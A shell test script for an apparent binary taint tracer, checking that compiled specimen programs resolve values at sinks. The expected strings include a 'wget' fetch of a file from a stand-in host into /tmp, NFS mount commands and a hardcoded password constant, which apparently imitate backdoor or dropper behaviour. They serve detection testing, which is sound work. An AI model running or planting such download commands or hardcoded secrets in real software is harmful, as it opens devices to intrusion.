#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# Specimens of tests/flow, compiled for one CPU, dynamic and static, -O2 and -Os, stripped: executing them must resolve
# the value at the sink. On our own CPU also: a twin without, and damaged programs.
# flow.sh TRACE_DUMP WORKER SPECIMENS COMPILER. Speaks TAP.
set -u
dump=$1 worker=$2 sources=$3 cc=$4
. "$(dirname "$0")/tap.sh"
command -v "$cc" >/dev/null || skip_all "$cc is not installed"

# specimen, what must stand in the trace (fixed text)
expected() {
	case $1 in
	mount_text) echo '"text":"mount -o nolock -t nfs 192.0.2.119:/pm /mnt","origin":"constant"' ;;
	mount_parts) echo '"text":"mount -t nfs -o nolock 192.0.2.119:/pm /mnt","origin":"built"' ;;
	connect_number) echo '"address":"192.0.2.119","port":515' ;;
	decode_xor) echo '"address":"192.0.2.119","port":9600' ;;
	connect_table) echo '"address":"192.0.2.10","port":511' ;;
	connect_behind) echo '"address":"192.0.2.119","port":515' ;;
	connect_stale) echo '"family":"inet"' ;;
	run_pointer) echo '"origin":"outside","source":"socket:inet datagram"' ;;
	receive_constant) echo '"text":"cp -r /mnt/bin /opt","origin":"constant"' ;;
	run_formatted) echo '"text":"mount -t nfs 192.0.2.120:/x/9 /mnt","origin":"built"' ;;
	run_twice) echo '"text":"cp -r /mnt/bin /opt","origin":"constant"' ;;
	place_guarded) echo '"address":"192.0.2.33","port":5033' ;;
	place_number) echo '"address":"203.0.113.45","port":5140' ;;
	place_local) echo '"text":"wget http://192.0.2.51/{argv} -O /tmp/x"' ;;
	place_rows) echo '"text":"mount -t nfs 192.0.2.82:/data /mnt"' ;;
	place_member) echo '"text":"mount -t nfs 192.0.2.93:/data /mnt"' ;;
	place_helper) echo '"text":"mount -t nfs 192.0.2.64:/data /mnt"' ;;
	compare_parts) echo '"name":"constant","text":"open-sesame-77","origin":"constant"' ;;
	connect_config) echo '"text":"mount -t nfs {file:/etc/monitor.conf}:/data /mnt","origin":"outside"' ;;
	esac
}

check_last() { # NAME PATTERN
	grep -qF "$2" "$work/out"
	report $? "$1"
	[ $tap_bad -eq 0 ] || tail -c 300 "$work/out" | sed 's/^/# /'
}
trace() { # PROGRAM
	"$dump" "$worker" "$1" 2>/dev/null
}
check() { # NAME PROGRAM PATTERN
	trace "$2" >"$work/out"
	check_last "$1" "$3"
}
check_absent() { # NAME PATTERN
	! grep -qF "$2" "$work/out"
	report $? "$1"
}

for source in "$sources"/*.c; do
	name=$(basename "$source" .c)
	case $name in place_*) hows=-O2 ;; *) hows="-O2 -Os" ;; esac
	for how in $hows; do
		$cc $how -w -s -o "$work/program" "$source" 2>/dev/null &&
			check "$cc $how $name" "$work/program" "$(expected "$name")"
		case $name in
		connect_stale) check_absent "$cc $how a pointer is no address" '"address"' ;;
		place_helper) check_absent "$cc $how $name, no further than the guard" 192.0.2.65 ;;
		esac
	done
done
# Statically linked, stripped: fopen(), fgets(), sscanf(), snprintf(), system() are known by what they do; and what
# comes after a system() stands on the same path.
if $cc -O2 -w -s -static -o "$work/program" "$sources/connect_config.c" 2>/dev/null; then
	check "$cc static connect_config" "$work/program" '"callee":"system","class":"run"'
	check_last "$cc static connect_config, the command" "$(expected connect_config)"
fi
for name in run_twice run_formatted; do
	$cc -O2 -w -s -static -o "$work/program" "$sources/$name.c" 2>/dev/null || continue
	check "$cc static $name" "$work/program" "$(expected $name)"
	[ $name = run_twice ] || check_last "$cc static $name, the file" '"text":"from 192.0.2.120\n"'
done
[ "$cc" = cc ] || finish

# The benign twin names no address at all, and the same program gives the same trace.
cc -O2 -w -s -o "$work/program" "$sources/connect_config.c" || finish
trace "$work/program" >"$work/out"
! grep -q '"address"' "$work/out"
report $? "the twin has no fixed address"
trace "$work/program" >"$work/again"
cmp -s "$work/out" "$work/again"
report $? "the same trace again"

# Bad input: cut at every 997th byte, and bytes turned round; always a summary, never a dead end.
size=$(wc -c <"$work/program") at=0 dead=0
while [ $at -lt "$size" ]; do
	head -c $at "$work/program" >"$work/cut"
	[ $at -eq 0 ] || trace "$work/cut" | grep -q '"kind":"fwtrace"' || dead=1
	{ head -c $at "$work/program"; printf '\377\377\377\177'; tail -c +$((at + 5)) "$work/program"; } >"$work/cut"
	trace "$work/cut" | grep -q '"kind":"fwtrace"' || dead=1
	at=$((at + 997))
done
report $dead "damaged programs end with a summary"

# Code that is all blocks: 1.2 MB of jumps (x86) to where they end. The worker used to die of it, 2.7 GB large.
case $(uname -m) in
x86_64)
	echo '__asm__(".globl main; main: .fill 600000,2,0x00eb; ret");' >"$work/jumps.c"
	cc -w -s -o "$work/program" "$work/jumps.c" && trace "$work/program" >"$work/out"
	check_last "blocks without end are cut, with a word" '"stopped":"block budget of the program"'
	;;
*) skip "blocks without end are cut, with a word" "jumps of x86" ;;
esac
finish
